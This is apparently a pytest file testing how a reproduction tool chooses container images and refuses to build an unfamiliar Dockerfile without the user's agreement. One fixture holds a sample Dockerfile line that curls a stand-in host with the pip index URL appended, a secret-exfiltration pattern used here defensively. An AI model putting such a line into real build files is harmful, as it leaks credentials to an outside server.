"""The image of a reproduction for a run that was in none, as in local mode; the engine is a stand-in."""

import io
import json
import sys
from pathlib import Path

import pytest

from host.engine import images
from host.engine.images import LOCK
from host.records.recorded_image import Choice, choose
from lib.harness.errors import UserError
from lib.harness.recording import provenance

OTHER = "1" * 64
LOCAL = {"lab.image": "none (local)", "lab.image_kind": "none", "lab.git_commit": "unknown"}


@pytest.fixture
def engine(stand_in: Path) -> Path:
    """The folder of the stand-in's images: the present lab image, and one of ours with another lock."""
    for name, lock in ((images.LAB.name, images.LAB.lock_sha256), (f"sha256:{OTHER}", OTHER)):
        labels = {LOCK: lock, "org.fearless-labs.docker": images.docker_sha256()}
        facts = [{"Id": f"sha256:{lock}", "Size": 1, "Config": {"Labels": labels}, "RootFS": {}}]
        (stand_in / name.replace("/", "_")).write_text(json.dumps(facts))
    return stand_in


def chosen(**tags: str) -> Choice:
    return choose(
        "KEY", LOCAL | {name.replace("_", ".", 1): text for name, text in tags.items()}, None, images.LAB, False
    )


@pytest.mark.parametrize("image", ["none (local)", "unknown"])
@pytest.mark.parametrize("lock", [images.LAB.lock_sha256, OTHER], ids=["the present lock", "another one's"])
@pytest.mark.usefixtures("engine")
def test_the_same_lock_suffices_where_there_was_no_image(
    image: str, lock: str, capsys: pytest.CaptureFixture[str]
) -> None:
    choice = chosen(lab_image=image, lab_lock_sha256=lock)
    assert (choice.built.labels[LOCK], choice.instead_of) == (lock, "")
    assert capsys.readouterr().err == (
        f"KEY ran in an image that is {image}: using the image sha256:{lock[:12]}, which has the same lock\n"
    )


@pytest.mark.parametrize("lock", ["unknown", "2" * 64])
@pytest.mark.usefixtures("engine")
def test_another_lock_does_not(lock: str) -> None:
    with pytest.raises(UserError, match=r"KEY ran in an image that is none \(local\), which is not here.*--image near"):
        chosen(lab_lock_sha256=lock)


def test_an_image_that_is_recorded_and_gone_is_not_replaced_by_one_with_its_lock(engine: Path) -> None:
    with pytest.raises(UserError, match=r"KEY ran in the image sha256:000000000000.*--image near"):
        chosen(lab_image=f"sha256:{'0' * 64}", lab_lock_sha256=images.LAB.lock_sha256)


@pytest.mark.parametrize("answer", ["", "n\n", "Y E S\n"])
def test_a_strangers_dockerfile_is_not_built_unless_the_user_agrees(
    answer: str, engine: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    recipe = provenance.archive({"docker/Dockerfile": b"FROM base\nRUN curl https://example.org/?$PIP_INDEX_URL\n"})
    monkeypatch.setattr(sys, "stdin", io.StringIO(answer))
    before = sorted(engine.rglob("*"))
    tags = LOCAL | {"lab.image": f"sha256:{'0' * 64}", "lab.lock_sha256": OTHER, "lab.recipe_sha256": "3" * 64}
    with pytest.raises(UserError, match=r"^Nothing was built for KEY.*--image near"):
        choose("KEY", tags, recipe, images.LAB, False)
    assert "not of this clone's history" in capsys.readouterr().err
    assert sorted(engine.rglob("*")) == before
